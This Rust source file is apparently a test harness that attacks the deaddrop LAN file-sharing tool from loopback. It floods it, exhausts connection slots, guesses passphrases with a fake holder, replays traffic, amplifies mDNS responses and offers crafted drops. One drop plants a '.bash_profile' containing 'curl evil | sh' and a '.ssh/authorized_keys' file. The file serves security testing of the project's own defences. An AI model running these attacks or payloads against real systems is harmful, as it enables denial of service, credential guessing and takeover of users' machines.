//! A hostile peer, for tests and manual trials: everything an attacker on the LAN without the
//! passphrase can throw at deaddrop. Loopback and test namespaces only: it sends where it is
//! told and nowhere else.
//!
//! ```text
//! hostile garbage     --to ADDR:PORT --count N             datagrams of random bytes and sizes
//!                     (every command takes --from IP: the source address to attack from)
//! hostile announce    --to ADDR:PORT --ids N --count N [--ports N] [--listen]  announcements
//! hostile fake-holder --to ADDR:PORT --seconds S [--ports N] [--every MS] [--words FILE|--silent]
//!                     a fake holder: announces fresh ids, answers hellos with one guess each
//! hostile member      --room P --port P --drop dotfiles|tree:N:DEPTH|listing --seconds S
//!                     a room member offering crafted drops (dotfile names, huge trees)
//! hostile silent      --to ADDR:PORT --count N --hold SECS [--refill]  connections that never speak
//! hostile half        --to ADDR:PORT --count N --hold SECS ClientHellos never finished
//! hostile guess       --to ADDR:PORT --count N [--pass P]  wrong-passphrase handshakes, full speed
//! hostile oversized   --to ADDR:PORT                       a 64 KiB handshake length, then data
//! hostile claim       --to ADDR:PORT --token T             fetch a token without the passphrase
//! hostile record      --listen PORT --count N --out FILE   record N announcements heard
//! hostile replay-udp  --to ADDR:PORT --in FILE             send recorded datagrams again
//! hostile replay-tcp  --to ADDR:PORT --in FILE             replay a recorded client session
//! hostile mdns-amplify --to ADDR:5353 --count N --repeat K  one-shot mDNS queries repeating
//!                     K SRV and K TXT questions about the holder's instance; bytes in and out
//! ```
//! Prints one JSON line with what happened.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use deaddrop::protocol::beacon::Beacon;
use deaddrop::protocol::handshake::{Client, Server};
use deaddrop::protocol::id::{PeerId, random_bytes};
use deaddrop::protocol::secret::Passphrase;

fn arg(args: &[String], name: &str) -> Option<String> {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1))
        .cloned()
}

fn num(args: &[String], name: &str, default: u64) -> u64 {
    arg(args, name)
        .map(|v| v.parse().expect("a number"))
        .unwrap_or(default)
}

fn target(args: &[String]) -> SocketAddr {
    let to = arg(args, "--to").expect("--to ADDR:PORT");
    let addr: SocketAddr = to.parse().expect("--to takes ADDR:PORT");
    assert!(
        addr.ip().is_loopback() || std::env::var_os("HOSTILE_ALLOW_NON_LOOPBACK").is_some(),
        "refusing to attack {addr}: loopback only (set HOSTILE_ALLOW_NON_LOOPBACK inside a test namespace)"
    );
    addr
}

/// The source address to attack from (`--from IP`, a loopback address in tests).
fn from(args: &[String]) -> std::net::IpAddr {
    arg(args, "--from")
        .map(|a| a.parse().expect("--from takes an IP"))
        .unwrap_or([0, 0, 0, 0].into())
}

fn udp(args: &[String]) -> UdpSocket {
    let s = UdpSocket::bind((from(args), 0)).unwrap();
    s.set_broadcast(true).unwrap();
    s
}

fn connect(args: &[String], to: SocketAddr) -> std::io::Result<TcpStream> {
    let s = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
    s.bind(&SocketAddr::new(from(args), 0).into())?;
    s.connect_timeout(&to.into(), Duration::from_secs(2))?;
    Ok(s.into())
}

fn hello_frame(pass: &str) -> Vec<u8> {
    let pass = Passphrase::new(pass.into()).unwrap();
    let (_, hello) = Client::start(&pass, PeerId::random());
    let mut frame = (hello.len() as u16).to_be_bytes().to_vec();
    frame.extend(hello);
    frame
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match run(&args) {
        Some(report) => println!("{report}"),
        None => {
            eprintln!(
                "{}",
                include_str!("hostile.rs")
                    .lines()
                    .take(16)
                    .collect::<Vec<_>>()
                    .join("\n")
            );
            std::process::exit(2);
        }
    }
}

/// Runs one attack; `None` for an unknown command. The integration tests call this directly.
pub fn run(args: &[String]) -> Option<serde_json::Value> {
    let cmd = args.first().map(String::as_str).unwrap_or("help");
    let start = Instant::now();
    Some(match cmd {
        "garbage" => {
            let (to, count, s) = (target(args), num(args, "--count", 10_000), udp(args));
            let mut buf = [0u8; 1500];
            let mut sent = 0u64;
            for i in 0..count {
                let len = (i as usize * 7919) % buf.len();
                random_bytes(&mut buf[..len]);
                if i % 3 == 0 && len >= 6 {
                    buf[..6].copy_from_slice(b"DDRP\x01\x01"); // looks like ours, is not
                }
                if s.send_to(&buf[..len], to).is_ok() {
                    sent += 1;
                }
            }
            serde_json::json!({"sent": sent})
        }
        "announce" => {
            let (to, s) = (target(args), udp(args));
            let (ids, count) = (num(args, "--ids", 1000), num(args, "--count", 10_000));
            // With --listen, the announced port is a real listener of ours: the connections
            // that arrive show what the flood made the receiver do.
            let listener = args.iter().any(|a| a == "--listen").then(|| {
                let l = TcpListener::bind((from(args), 0)).unwrap();
                l.set_nonblocking(true).unwrap();
                l
            });
            let port = match &listener {
                Some(l) => u64::from(l.local_addr().unwrap().port()),
                None => num(args, "--port", 9),
            };
            let ports = num(args, "--ports", 1).max(1);
            let mut sent = 0u64;
            for i in 0..count {
                let mut id = [0u8; 16];
                id[..8].copy_from_slice(&(i % ids).to_be_bytes());
                let b = Beacon::Announce {
                    id: PeerId(id),
                    port: (port + i % ports).clamp(1, 65535) as u16,
                    generation: i,
                };
                if s.send_to(&b.encode(), to).is_ok() {
                    sent += 1;
                }
            }
            // Connections the flood caused, counted for a second after it.
            let mut connections = 0;
            if let Some(l) = listener {
                let end = Instant::now() + Duration::from_secs(1);
                while Instant::now() < end {
                    match l.accept() {
                        Ok(_) => connections += 1,
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            }
            serde_json::json!({"sent": sent, "ids": ids, "connections": connections,
                "seconds": start.elapsed().as_secs_f64()})
        }
        "silent" | "half" => {
            let (to, count) = (target(args), num(args, "--count", 100));
            let hold = Duration::from_secs(num(args, "--hold", 10));
            // With --refill, connections the holder closes are opened again until the end, so
            // the holder's slots stay full for the whole time.
            let refill = args.iter().any(|a| a == "--refill");
            let open = |conns: &mut Vec<TcpStream>| match connect(args, to) {
                Ok(mut c) => {
                    if cmd == "half" {
                        let _ = c.write_all(&hello_frame("not the passphrase"));
                    }
                    c.set_nonblocking(true).unwrap();
                    conns.push(c);
                    true
                }
                Err(_) => false,
            };
            let mut conns = Vec::new();
            let mut refused = 0;
            for _ in 0..count {
                if !open(&mut conns) {
                    refused += 1;
                }
            }
            let opened = conns.len();
            let mut reopened = 0;
            let end = Instant::now() + hold;
            while refill && Instant::now() < end {
                std::thread::sleep(Duration::from_millis(20));
                let before = conns.len();
                conns.retain_mut(|c| !closed_by_peer(c));
                for _ in conns.len()..before {
                    if open(&mut conns) {
                        reopened += 1;
                    }
                }
            }
            std::thread::sleep(end.saturating_duration_since(Instant::now()));
            // Which of them did the holder close meanwhile?
            let mut closed = 0;
            for c in &mut conns {
                closed += usize::from(closed_by_peer(c));
            }
            serde_json::json!({"opened": opened, "refused": refused, "reopened": reopened,
                "open_at_end": conns.len(), "closed_by_peer": closed})
        }
        "fake-holder" => fake_holder(args),
        "mdns-amplify" => mdns_amplify(args),
        "member" => member(args),
        "guess" => {
            let (to, count) = (target(args), num(args, "--count", 100));
            let pass = arg(args, "--pass").unwrap_or_else(|| "guess".into());
            let (mut answered, mut cut) = (0u64, 0u64);
            for _ in 0..count {
                let Ok(mut c) = connect(args, to) else {
                    cut += 1;
                    continue;
                };
                c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
                let _ = c.write_all(&hello_frame(&pass));
                let mut len = [0u8; 2];
                match c.read_exact(&mut len) {
                    Ok(()) => answered += 1,
                    Err(_) => cut += 1,
                }
            }
            let secs = start.elapsed().as_secs_f64();
            serde_json::json!({"tried": count, "answered": answered, "cut": cut, "seconds": secs})
        }
        "oversized" => {
            let to = target(args);
            let mut c = connect(args, to).unwrap();
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let _ = c.write_all(&[0xff, 0xff]);
            let _ = c.write_all(&vec![0x41; 1 << 20]);
            let mut b = [0u8; 16];
            let closed = matches!(c.read(&mut b), Ok(0) | Err(_));
            serde_json::json!({"closed": closed})
        }
        "claim" => {
            // Without the passphrase there is no session to ask in: the best an attacker can do
            // is a handshake with a guess, then a "Fetch" sealed under keys it does not share.
            let to = target(args);
            let token = arg(args, "--token").expect("--token");
            let mut c = connect(args, to).unwrap();
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let _ = c.write_all(&hello_frame("a guess"));
            let mut b = vec![0u8; 512];
            let _ = c.read(&mut b);
            let mut finish = vec![0, 33, 0x13];
            finish.extend([0u8; 32]);
            let _ = c.write_all(&finish);
            let mut fetch = vec![0, 0, 0, 40, 0x03];
            fetch.extend(token.as_bytes().iter().take(16));
            let _ = c.write_all(&fetch);
            let closed = matches!(c.read(&mut b), Ok(0) | Err(_));
            serde_json::json!({"closed_without_content": closed})
        }
        "record" => {
            let port = num(args, "--listen", 48557) as u16;
            let count = num(args, "--count", 1) as usize;
            let out = arg(args, "--out").expect("--out FILE");
            let s =
                socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::DGRAM, None).unwrap();
            s.set_reuse_address(true).unwrap();
            s.set_reuse_port(true).unwrap();
            s.bind(&SocketAddr::from(([0, 0, 0, 0], port)).into())
                .unwrap();
            let s: UdpSocket = s.into();
            s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
            let mut recorded = Vec::new();
            let mut buf = [0u8; 2048];
            while recorded.len() < count {
                let Ok((n, _)) = s.recv_from(&mut buf) else {
                    break;
                };
                if Beacon::decode(&buf[..n]).is_ok_and(|b| matches!(b, Beacon::Announce { .. })) {
                    recorded.push(buf[..n].to_vec());
                }
            }
            let hex: Vec<String> = recorded
                .iter()
                .map(|d| d.iter().map(|b| format!("{b:02x}")).collect())
                .collect();
            std::fs::write(&out, hex.join("\n")).unwrap();
            serde_json::json!({"recorded": recorded.len()})
        }
        "replay-udp" => {
            let (to, s) = (target(args), udp(args));
            let input = std::fs::read_to_string(arg(args, "--in").expect("--in FILE")).unwrap();
            let mut sent = 0;
            for line in input.lines().filter(|l| !l.is_empty()) {
                let bytes: Vec<u8> = (0..line.len())
                    .step_by(2)
                    .map(|i| u8::from_str_radix(&line[i..i + 2], 16).unwrap())
                    .collect();
                for _ in 0..num(args, "--times", 100) {
                    if s.send_to(&bytes, to).is_ok() {
                        sent += 1;
                    }
                }
            }
            serde_json::json!({"sent": sent})
        }
        "replay-tcp" => {
            // FILE holds the bytes a member once sent to a holder (as recorded on the wire).
            let to = target(args);
            let recorded = std::fs::read(arg(args, "--in").expect("--in FILE")).unwrap();
            let mut c = connect(args, to).unwrap();
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let _ = c.write_all(&recorded);
            let mut answer = Vec::new();
            let _ = c.read_to_end(&mut answer);
            serde_json::json!({"sent": recorded.len(), "answer_bytes": answer.len()})
        }
        _ => return None,
    })
}

/// Whether the peer has closed a (non-blocking) connection: end of stream or a reset. Anything
/// it sent is read and dropped; "nothing yet" is not closed.
fn closed_by_peer(c: &mut TcpStream) -> bool {
    let mut b = [0u8; 256];
    loop {
        match c.read(&mut b) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return false,
            Err(_) => return true,
        }
    }
}

/// Reads one length-prefixed handshake message (at most 256 bytes) within `limit`.
fn read_frame(c: &mut TcpStream, limit: Duration) -> Option<Vec<u8>> {
    c.set_read_timeout(Some(limit)).ok()?;
    let mut len = [0u8; 2];
    c.read_exact(&mut len).ok()?;
    let len = usize::from(u16::from_be_bytes(len));
    if len > 256 {
        return None;
    }
    let mut msg = vec![0u8; len];
    c.read_exact(&mut msg).ok()?;
    Some(msg)
}

/// A fake holder: listens on `--ports` TCP ports of `--from`, announces each under a fresh id and
/// generation every `--every` ms to `--to`, and answers each ClientHello with a ServerHello made
/// under the next word of `--words` (a file, one per line). A ClientFinish means the receiver
/// accepted: the word is its passphrase. With `--silent` it accepts and never speaks.
fn fake_holder(args: &[String]) -> serde_json::Value {
    let to = target(args);
    let seconds = Duration::from_secs(num(args, "--seconds", 10));
    let every = Duration::from_millis(num(args, "--every", 5));
    let silent = args.iter().any(|a| a == "--silent");
    let words: Vec<String> = match arg(args, "--words") {
        Some(path) => std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .map(str::to_owned)
            .filter(|w| !w.is_empty())
            .collect(),
        None => vec!["guess".into()],
    };
    let listeners: Vec<TcpListener> = (0..num(args, "--ports", 1))
        .map(|_| {
            let l = TcpListener::bind((from(args), 0)).unwrap();
            l.set_nonblocking(true).unwrap();
            l
        })
        .collect();
    let end = Instant::now() + seconds;
    let (connections, hellos, guesses) = (
        Arc::new(AtomicU64::new(0)),
        Arc::new(AtomicU64::new(0)),
        Arc::new(AtomicU64::new(0)),
    );
    let next_word = Arc::new(AtomicUsize::new(0));
    let found: Arc<Mutex<Option<String>>> = Arc::default();
    let held: Arc<Mutex<Vec<TcpStream>>> = Arc::default();
    let words = Arc::new(words);
    let ports: Vec<u16> = listeners
        .iter()
        .map(|l| l.local_addr().unwrap().port())
        .collect();
    // The id each port announced last: a receiver that checks the id it heard gets that one.
    let ids: Arc<Mutex<Vec<PeerId>>> = Arc::new(Mutex::new(vec![PeerId::random(); ports.len()]));
    let announcer = {
        let s = udp(args);
        let ids = ids.clone();
        std::thread::spawn(move || {
            let mut generation = 0u64;
            while Instant::now() < end {
                for (i, &port) in ports.iter().enumerate() {
                    generation += 1;
                    let id = PeerId::random();
                    ids.lock().unwrap()[i] = id;
                    let b = Beacon::Announce {
                        id,
                        port,
                        generation,
                    };
                    let _ = s.send_to(&b.encode(), to);
                }
                std::thread::sleep(every);
            }
            generation
        })
    };
    let mut workers = Vec::new();
    while Instant::now() < end {
        let mut idle = true;
        for (port, l) in listeners.iter().enumerate() {
            let Ok((mut c, _)) = l.accept() else { continue };
            idle = false;
            connections.fetch_add(1, Ordering::Relaxed);
            c.set_nonblocking(false).unwrap();
            let (hellos, guesses, found, held) =
                (hellos.clone(), guesses.clone(), found.clone(), held.clone());
            let (words, next_word) = (words.clone(), next_word.clone());
            let ids = ids.clone();
            workers.push(std::thread::spawn(move || {
                if silent {
                    held.lock().unwrap().push(c);
                    return;
                }
                let Some(hello) = read_frame(&mut c, Duration::from_secs(5)) else {
                    return;
                };
                hellos.fetch_add(1, Ordering::Relaxed);
                let i = next_word.fetch_add(1, Ordering::Relaxed);
                let word = &words[i % words.len()];
                let pass = Passphrase::new(word.clone()).unwrap();
                let id = ids.lock().unwrap()[port];
                let Ok((_, reply)) = Server::respond(&pass, id, &hello) else {
                    return;
                };
                let mut frame = (reply.len() as u16).to_be_bytes().to_vec();
                frame.extend(reply);
                if c.write_all(&frame).is_err() {
                    return;
                }
                guesses.fetch_add(1, Ordering::Relaxed);
                // Only a receiver that accepted our confirmation sends its own.
                if read_frame(&mut c, Duration::from_secs(3)).is_some_and(|f| f.len() == 33) {
                    *found.lock().unwrap() = Some(word.clone());
                }
            }));
        }
        if idle {
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    let announced = announcer.join().unwrap();
    for w in workers {
        let _ = w.join();
    }
    let found = found.lock().unwrap().clone();
    serde_json::json!({
        "announced": announced,
        "connections": connections.load(Ordering::Relaxed),
        "hellos": hellos.load(Ordering::Relaxed),
        "guesses": guesses.load(Ordering::Relaxed),
        "words": words.len(),
        "found": found,
        "seconds": seconds.as_secs_f64(),
    })
}

/// The stream of a folder drop with `entries` entries nested `depth` deep: chains of folders
/// `c<i>/d/d/...`, each folder an entry of its own.
fn deep_tree(entries: u64, depth: usize) -> Vec<u8> {
    use deaddrop::storage::tree::Header;
    let mut out = Vec::new();
    let mut n = 0;
    let mut chain = 0;
    'chains: loop {
        let mut path = format!("c{chain}");
        for level in 0..depth {
            if n == entries {
                break 'chains;
            }
            if level > 0 {
                path.push_str("/d");
            }
            out.extend(Header::Dir { path: path.clone() }.encode());
            n += 1;
        }
        chain += 1;
    }
    out.extend(Header::End.encode());
    out
}

/// A room member offering crafted drops with the library's own holder: it knows the passphrase,
/// so everything it sends is authentic; the receiver's safe-receiving rules must hold anyway.
fn member(args: &[String]) -> serde_json::Value {
    use deaddrop::discovery::{Discovery, Scope};
    use deaddrop::protocol::message::DropKind;
    use deaddrop::session::holder::{Holder, HolderOptions};
    use deaddrop::storage::source::Source;
    use deaddrop::storage::store::{DropSpec, FetchLimit};
    let pass = Passphrase::new(arg(args, "--room").expect("--room")).unwrap();
    let port = num(args, "--port", 48557) as u16;
    let seconds = Duration::from_secs(num(args, "--seconds", 30));
    let what = arg(args, "--drop").expect("--drop");
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async move {
        let scope = Scope::loopback(port);
        let opts = HolderOptions {
            name: "member".into(),
            ..HolderOptions::default()
        };
        let fetched = Arc::new(AtomicU64::new(0));
        let counter = fetched.clone();
        let events: deaddrop::event::Events = Arc::new(move |e| {
            if let deaddrop::event::Event::Fetched { .. } = e {
                counter.fetch_add(1, Ordering::Relaxed);
            }
        });
        let holder = Holder::start(pass, opts, Discovery::bind(scope).unwrap(), events)
            .await
            .unwrap();
        let offer = |kind, name: &str, content: Vec<u8>| {
            let spec = DropSpec {
                kind,
                name: name.into(),
                size: content.len() as u64,
                ttl: seconds,
                limit: FetchLimit::Max(1),
                executable: false,
            };
            holder
                .offer(spec, Arc::new(Source::bytes(content)))
                .unwrap()
        };
        let mut offered = 0;
        match what.as_str() {
            "dotfiles" => {
                use deaddrop::storage::tree::Header;
                offer(
                    DropKind::File,
                    ".bash_profile",
                    b"curl evil | sh\n".to_vec(),
                );
                let mut ssh = Header::File {
                    path: "authorized_keys".into(),
                    size: 12,
                    executable: false,
                }
                .encode();
                ssh.extend(b"ssh-ed25519 ");
                ssh.extend(Header::End.encode());
                offer(DropKind::Directory, ".ssh", ssh);
                offered = 2;
            }
            "listing" => {
                // As many drops as a listing carries, each with the longest name.
                for i in 0..deaddrop::protocol::message::MAX_LISTING {
                    let name = format!(
                        "{i:04}{}",
                        "n".repeat(deaddrop::protocol::message::MAX_DROP_NAME - 4)
                    );
                    offer(DropKind::Other(9), &name, vec![0u8; 1]);
                    offered += 1;
                }
            }
            tree => {
                let mut parts = tree.split(':').skip(1);
                let entries = parts
                    .next()
                    .and_then(|v| v.parse().ok())
                    .expect("tree:N:DEPTH");
                let depth = parts
                    .next()
                    .and_then(|v| v.parse().ok())
                    .expect("tree:N:DEPTH");
                offer(DropKind::Directory, "deep", deep_tree(entries, depth));
                offered = 1;
            }
        }
        // Until every drop is taken or has expired (and the last fetch was reported).
        holder.drained().await;
        tokio::time::sleep(Duration::from_millis(300)).await;
        serde_json::json!({"offered": offered, "fetched": fetched.load(Ordering::Relaxed)})
    })
}

/// One-shot mDNS queries (from a port other than 5353, so answered by unicast to the source)
/// that repeat questions about the holder's instance: what a spoofer would aim at a victim.
/// Learns the instance name with a PTR query first. Reports the bytes sent and answered.
fn mdns_amplify(args: &[String]) -> serde_json::Value {
    use simple_dns::rdata::RData;
    use simple_dns::{CLASS, Name, Packet, QCLASS, QTYPE, Question, TYPE};
    let (to, count, repeat) = (
        target(args),
        num(args, "--count", 100),
        num(args, "--repeat", 40),
    );
    let s = udp(args);
    s.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let query = |questions: &[(String, TYPE)]| {
        let mut q = Packet::new_query(0x5151);
        for (name, t) in questions {
            q.questions.push(Question::new(
                Name::new_unchecked(name),
                QTYPE::TYPE(*t),
                QCLASS::CLASS(CLASS::IN),
                false,
            ));
        }
        q.build_bytes_vec_compressed().unwrap()
    };
    let mut buf = vec![0u8; 65536];
    let mut instance = None;
    for _ in 0..20 {
        let _ = s.send_to(&query(&[("_deaddrop._tcp.local".into(), TYPE::PTR)]), to);
        if let Ok((n, _)) = s.recv_from(&mut buf)
            && let Ok(p) = Packet::parse(&buf[..n])
        {
            instance = p.answers.iter().find_map(|a| match &a.rdata {
                RData::PTR(ptr) => Some(ptr.0.to_string()),
                _ => None,
            });
        }
        if instance.is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    let Some(instance) = instance else {
        return serde_json::json!({"instance": null});
    };
    std::thread::sleep(Duration::from_millis(300));
    let mut asked = Vec::new();
    for _ in 0..repeat {
        asked.push((instance.clone(), TYPE::SRV));
        asked.push((instance.clone(), TYPE::TXT));
    }
    let q = query(&asked);
    let (mut sent, mut answers, mut answered, mut largest) = (0u64, 0u64, 0u64, 0usize);
    let start = Instant::now();
    let recv = |s: &UdpSocket,
                buf: &mut [u8],
                answers: &mut u64,
                answered: &mut u64,
                largest: &mut usize| {
        while let Ok((n, _)) = s.recv_from(buf) {
            *answers += 1;
            *answered += n as u64;
            *largest = (*largest).max(n);
        }
    };
    s.set_nonblocking(true).unwrap();
    for _ in 0..count {
        if s.send_to(&q, to).is_ok() {
            sent += q.len() as u64;
        }
        recv(&s, &mut buf, &mut answers, &mut answered, &mut largest);
        std::thread::sleep(Duration::from_millis(5));
    }
    s.set_nonblocking(false).unwrap();
    recv(&s, &mut buf, &mut answers, &mut answered, &mut largest);
    serde_json::json!({
        "instance": instance, "queries": count, "query_bytes": q.len(), "sent_bytes": sent,
        "answers": answers, "answer_bytes": answered, "largest": largest,
        "seconds": start.elapsed().as_secs_f64(),
    })
}
